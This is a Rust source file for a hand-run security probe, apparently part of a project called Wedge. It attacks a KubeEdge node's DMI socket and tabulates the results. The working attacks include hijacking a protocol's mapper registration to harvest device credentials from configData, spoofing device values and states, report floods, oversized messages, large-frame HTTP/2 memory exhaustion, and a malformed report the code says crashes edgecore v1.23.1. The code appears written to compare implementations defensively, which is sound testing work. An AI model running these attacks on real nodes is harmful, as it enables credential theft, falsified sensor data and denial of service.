//! `dmi-probe`: what a hostile local user can do to a node through its KubeEdge DMI socket.
//!
//! It runs the same attacks against any node's DMI unix socket (Wedge's, or the reference
//! edgecore v1.23.1's) and prints one row per attack with what happened, then all rows as a
//! markdown table, so the two can be shown side by side. It is run by hand, never by the
//! tests; every step has a time limit (it then reports `timeout`), and a failed step does
//! not stop the others.
//!
//! ```text
//! cargo build -p wedge-tests --bin dmi-probe
//! # as root (what the node's own user, or anyone on a world-writable socket, can do):
//! dmi-probe --socket /etc/kubeedge/dmi.sock --protocol modbus --device default/sensor-1 \
//!     --pid $(pidof edgecore)
//! # as an unprivileged local user:
//! setpriv --reuid 65534 --regid 65534 --clear-groups -- \
//!     dmi-probe --socket /etc/kubeedge/dmi.sock --protocol modbus --device default/sensor-1
//! ```
//!
//! `--protocol` is the protocol of existing devices (and of their mapper, if one runs) and
//! `--device` one of them, `<namespace>/<name>`. The rows:
//!
//! 1. `socket mode`: the socket's mode, owner, and whether this process can connect.
//! 2. `register (steal protocol)`: serve a `DeviceMapperService` of our own on a socket in a
//!    fresh temporary directory and `MapperRegister` for `--protocol` (`withData: true`):
//!    the status, and the devices and models handed over with any `configData` (credentials,
//!    addresses of the devices) they carry.
//! 3. `report for a device (unregistered client)`: on a fresh connection, before this process
//!    registers anything, `ReportDeviceStatus` setting `--property` of `--device` to `666`.
//! 4. `report states (unregistered)`: likewise `ReportDeviceStates` with state `offline`.
//! 5. `report burst`: `--burst` reports, `--concurrency` at a time (after row 2: if it
//!    registered, as the device's mapper), counted by answer.
//! 6. `oversized message`: one report whose value is 8 MiB.
//! 7. `big HTTP/2 frames`: `--flood-connections` raw connections each announcing a
//!    `--frame-mib` MiB DATA frame (see `dmi_probe/flood.rs`); the node's RSS with `--pid`.
//!
//! Rows 3 and 4 run before row 2 so that "unregistered" holds; rows 5 to 7 run after it.
//! Row 2's registration is left in place when the probe exits (its mapper socket is gone then,
//! so a real mapper can register again).

#[path = "dmi_probe/flood.rs"]
mod flood;
#[path = "dmi_probe/mapper.rs"]
mod mapper;

use std::collections::BTreeMap;
use std::future::Future;
use std::os::unix::fs::MetadataExt;
use std::path::PathBuf;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use clap::Parser;
use wedge_dmi::pb;

use mapper::{MapperServer, NodeClient, connect, cut, status_text};

/// Attacks a hostile local user can try on a KubeEdge DMI socket, one table row each.
#[derive(Parser, Debug)]
#[command(name = "dmi-probe")]
struct Cli {
    /// The node's DMI unix socket.
    #[arg(long)]
    socket: PathBuf,
    /// Protocol of existing devices (and of their mapper, if one is registered).
    #[arg(long)]
    protocol: String,
    /// An existing device, `<namespace>/<name>`.
    #[arg(long)]
    device: String,
    /// The device property the reports set.
    #[arg(long, default_value = "temperature")]
    property: String,
    /// Raw connections of the HTTP/2 frame flood.
    #[arg(long, default_value_t = 40)]
    flood_connections: usize,
    /// Length each flood connection announces for its DATA frame, in MiB (capped at HTTP/2's
    /// 16 MiB - 1 byte).
    #[arg(long, default_value_t = 16)]
    frame_mib: usize,
    /// Reports of the burst.
    #[arg(long, default_value_t = 2000)]
    burst: usize,
    /// Reports of the burst in flight at once.
    #[arg(long, default_value_t = 16)]
    concurrency: usize,
    /// The node's pid, to read its RSS (`/proc/<pid>/status`) around the flood.
    #[arg(long)]
    pid: Option<u32>,
    /// Time limit of each step, in seconds.
    #[arg(long, default_value_t = 60)]
    step_timeout: u64,
}

/// The reported value of rows 3 and 5.
const EVIL_VALUE: &str = "666";
/// The value size of row 6.
const OVERSIZED: usize = 8 << 20;

/// A `ReportDeviceStatus` setting `property` of `namespace/name` to `value`, as
/// mapper-framework sends it (with `observedDesired`, which edgecore v1.23.1 dereferences
/// unchecked: see row 9).
fn report(
    namespace: &str,
    name: &str,
    property: &str,
    value: String,
) -> pb::ReportDeviceStatusRequest {
    wedge_tests::dmi_client::report(namespace, name, property, value, true)
}

/// A report without `observedDesired`, which any client may send.
fn bare_report(
    namespace: &str,
    name: &str,
    property: &str,
    value: String,
) -> pb::ReportDeviceStatusRequest {
    wedge_tests::dmi_client::report(namespace, name, property, value, false)
}

/// The probe's run: arguments and the device split in two.
struct Probe {
    cli: Cli,
    namespace: String,
    name: String,
    limit: Duration,
}

/// Runs `step` within `limit`: its text, `error: …`, or `timeout`.
async fn within(limit: Duration, step: impl Future<Output = Result<String>>) -> String {
    match tokio::time::timeout(limit, step).await {
        Err(_) => format!("timeout (no result in {} s)", limit.as_secs()),
        Ok(Ok(text)) => text,
        Ok(Err(e)) => format!("error: {}", error_text(&e)),
    }
}

/// `e` and its causes on one line, each cause left out when the text already says it (tonic's
/// transport errors repeat their source in their own message).
fn error_text(e: &anyhow::Error) -> String {
    let mut text = String::new();
    for cause in e.chain().map(ToString::to_string) {
        if text.contains(&cause) {
            continue;
        }
        if !text.is_empty() {
            text.push_str(": ");
        }
        text.push_str(&cause);
    }
    text
}

/// Who this process is.
fn identity() -> String {
    // SAFETY: these calls have no preconditions and cannot fail.
    let (uid, gid) = unsafe { (libc::geteuid(), libc::getegid()) };
    format!("uid {uid}, gid {gid}, pid {}", std::process::id())
}

impl Probe {
    /// Row 1.
    async fn socket_mode(&self) -> Result<String> {
        let socket = &self.cli.socket;
        let meta = std::fs::symlink_metadata(socket)
            .with_context(|| format!("cannot stat {}", socket.display()))?;
        let kind = if std::os::unix::fs::FileTypeExt::is_socket(&meta.file_type()) {
            "socket"
        } else {
            "not a socket"
        };
        let dir = socket
            .parent()
            .and_then(|d| std::fs::metadata(d).ok())
            .map_or_else(|| "?".to_owned(), |m| format!("{:04o}", m.mode() & 0o7777));
        Ok(format!(
            "{kind}, mode {:04o}, uid {}, gid {} (its directory {dir}); {}",
            meta.mode() & 0o7777,
            meta.uid(),
            meta.gid(),
            flood::try_connect(socket).await
        ))
    }

    /// Row 2: registers for the protocol; our mapper stays served for the rest of the run.
    async fn register(&self, mapper: &MapperServer) -> Result<String> {
        let mut client = connect(&self.cli.socket).await?;
        let request = mapper.register_request(&self.cli.protocol)?;
        let answer = match client.mapper_register(request).await {
            Ok(answer) => answer.into_inner(),
            Err(status) => return Ok(format!("refused: {}", status_text(&status))),
        };
        let devices: Vec<String> = answer
            .device_list
            .iter()
            .map(|d| format!("{}/{}", d.namespace, d.name))
            .collect();
        let secrets = mapper::config_entries(&answer.device_list);
        let secrets = if secrets.is_empty() {
            "no configData seen".to_owned()
        } else {
            format!(
                "{} configData entries, secrets seen: {}",
                secrets.len(),
                cut(&secrets.join("; "), 80)
            )
        };
        Ok(format!(
            "OK: registered as the {:?} mapper; got {} devices ({}), {} models; {secrets}",
            self.cli.protocol,
            devices.len(),
            cut(&devices.join(", "), 80),
            answer.model_list.len(),
        ))
    }

    /// Row 3.
    async fn report_unregistered(&self) -> Result<String> {
        let mut client = connect(&self.cli.socket).await?;
        let request = report(
            &self.namespace,
            &self.name,
            &self.cli.property,
            EVIL_VALUE.to_owned(),
        );
        Ok(match client.report_device_status(request).await {
            Ok(_) => format!(
                "OK: accepted ({} of {}/{} set to {EVIL_VALUE})",
                self.cli.property, self.namespace, self.name
            ),
            Err(status) => format!("refused: {}", status_text(&status)),
        })
    }

    /// Row 4.
    async fn states_unregistered(&self) -> Result<String> {
        let mut client = connect(&self.cli.socket).await?;
        let request = pb::ReportDeviceStatesRequest {
            device_name: self.name.clone(),
            device_namespace: self.namespace.clone(),
            state: "offline".to_owned(),
        };
        Ok(match client.report_device_states(request).await {
            Ok(_) => format!(
                "OK: accepted ({}/{} reported offline)",
                self.namespace, self.name
            ),
            Err(status) => format!("refused: {}", status_text(&status)),
        })
    }

    /// Row 5: stops at `limit` with what it counted so far.
    async fn burst(&self, registered: bool) -> Result<String> {
        let client = connect(&self.cli.socket).await?;
        let deadline = tokio::time::Instant::now() + self.limit;
        let next = Arc::new(AtomicUsize::new(0));
        // Answer -> (count, first message).
        let answers = Arc::new(Mutex::new(BTreeMap::<String, (usize, String)>::new()));
        let started = Instant::now();
        let mut workers = tokio::task::JoinSet::new();
        for _ in 0..self.cli.concurrency.max(1) {
            let (mut client, next, answers): (NodeClient, _, _) =
                (client.clone(), next.clone(), answers.clone());
            let total = self.cli.burst;
            let (namespace, name, property) = (
                self.namespace.clone(),
                self.name.clone(),
                self.cli.property.clone(),
            );
            workers.spawn(async move {
                loop {
                    let i = next.fetch_add(1, Ordering::Relaxed);
                    if i >= total {
                        return;
                    }
                    let request = report(&namespace, &name, &property, (1000 + i).to_string());
                    let (key, message) = match tokio::time::timeout_at(
                        deadline,
                        client.report_device_status(request),
                    )
                    .await
                    {
                        Err(_) => ("timeout".to_owned(), String::new()),
                        Ok(Ok(_)) => ("OK".to_owned(), String::new()),
                        Ok(Err(s)) => (format!("{:?}", s.code()), cut(s.message(), 120)),
                    };
                    let stop = key == "timeout";
                    {
                        let mut answers = answers.lock().unwrap_or_else(|e| e.into_inner());
                        let entry = answers.entry(key).or_insert((0, message));
                        entry.0 += 1;
                    }
                    if stop {
                        return;
                    }
                }
            });
        }
        while workers.join_next().await.is_some() {}
        let took = started.elapsed().as_secs_f64();
        let answers = answers.lock().unwrap_or_else(|e| e.into_inner());
        let ok = answers.get("OK").map_or(0, |a| a.0);
        let done: usize = answers.values().map(|a| a.0).sum();
        let refused = done - ok;
        let codes: Vec<String> = answers
            .iter()
            .filter(|(k, _)| k.as_str() != "OK")
            .map(|(k, (n, _))| format!("{k} {n}"))
            .collect();
        let first = answers
            .iter()
            .find(|(k, (_, m))| k.as_str() != "OK" && !m.is_empty())
            .map(|(k, (_, m))| format!("; first {k}: {m}"))
            .unwrap_or_default();
        Ok(format!(
            "ok {ok}, refused {refused} ({}) of {} sent in {took:.2} s ({:.0}/s){}{first}",
            if codes.is_empty() {
                "none".to_owned()
            } else {
                codes.join(", ")
            },
            done,
            done as f64 / took.max(1e-9),
            if registered {
                ", as the registered mapper"
            } else {
                ", unregistered"
            },
        ))
    }

    /// Row 9: a report without `observedDesired`, then whether the node still answers.
    async fn without_observed_desired(&self) -> Result<String> {
        let mut client = connect(&self.cli.socket).await?;
        let request = bare_report(
            &self.namespace,
            &self.name,
            &self.cli.property,
            EVIL_VALUE.to_owned(),
        );
        let answer = match client.report_device_status(request).await {
            Ok(_) => "OK".to_owned(),
            Err(status) => format!("refused: {}", status_text(&status)),
        };
        tokio::time::sleep(Duration::from_secs(1)).await;
        let alive = match connect(&self.cli.socket).await {
            Ok(_) => "the node still answers".to_owned(),
            Err(e) => format!("the node no longer answers ({})", error_text(&e)),
        };
        Ok(format!("{answer}; {alive}"))
    }

    /// Row 6.
    async fn oversized(&self) -> Result<String> {
        let mut client = connect(&self.cli.socket).await?;
        let request = report(
            &self.namespace,
            &self.name,
            &self.cli.property,
            "9".repeat(OVERSIZED),
        );
        Ok(match client.report_device_status(request).await {
            Ok(_) => "OK: an 8 MiB value was accepted".to_owned(),
            Err(status) => format!("refused: {}", status_text(&status)),
        })
    }
}

#[tokio::main]
async fn main() -> Result<()> {
    let cli = Cli::parse();
    let Some((namespace, name)) = cli.device.split_once('/') else {
        bail!("--device must be <namespace>/<name>, not {:?}", cli.device);
    };
    let probe = Probe {
        namespace: namespace.to_owned(),
        name: name.to_owned(),
        limit: Duration::from_secs(cli.step_timeout.max(1)),
        cli,
    };
    println!(
        "dmi-probe as {} against {} (protocol {:?}, device {:?})",
        identity(),
        probe.cli.socket.display(),
        probe.cli.protocol,
        probe.cli.device
    );
    let limit = probe.limit;
    let mut rows: Vec<(&str, String)> = Vec::new();
    let mut row = |attack: &'static str, result: String| {
        println!("{attack}: {result}");
        rows.push((attack, result));
    };

    row("socket mode", within(limit, probe.socket_mode()).await);
    // Rows 3 and 4 before any registration of ours, so the client really is unregistered.
    let unregistered = within(limit, probe.report_unregistered()).await;
    let states = within(limit, probe.states_unregistered()).await;

    let dir = tempfile::Builder::new()
        .prefix("dmi-probe-")
        .tempdir()
        .context("cannot create a temporary directory for our mapper socket")?;
    let mapper = MapperServer::serve(&dir.path().join("mapper.sock"));
    let registered = match &mapper {
        Ok(mapper) => within(limit, probe.register(mapper)).await,
        Err(e) => format!("error: {}", error_text(e)),
    };
    let is_registered = registered.starts_with("OK");
    row("register (steal protocol)", registered);
    row("report for a device (unregistered client)", unregistered);
    row("report states (unregistered)", states);
    // The burst keeps what it counted when its limit ends; the outer limit is a backstop.
    row(
        "report burst",
        within(limit + Duration::from_secs(10), probe.burst(is_registered)).await,
    );
    row("oversized message", within(limit, probe.oversized()).await);
    let flood = flood::Flood {
        socket: probe.cli.socket.clone(),
        connections: probe.cli.flood_connections,
        frame_mib: probe.cli.frame_mib,
        pid: probe.cli.pid,
    };
    row(
        "big HTTP/2 frames",
        within(limit + Duration::from_secs(20), flood::run(&flood)).await,
    );
    if let Ok(mapper) = &mapper {
        row("(the node's calls to our mapper)", mapper.calls());
    }
    row(
        "report without observedDesired",
        within(limit, probe.without_observed_desired()).await,
    );

    println!();
    println!("| # | attack | result |");
    println!("|---|---|---|");
    for (i, (attack, result)) in rows.iter().enumerate() {
        let result = result.replace('|', "\\|").replace('\n', " ");
        println!("| {} | {attack} | {result} |", i + 1);
    }
    Ok(())
}
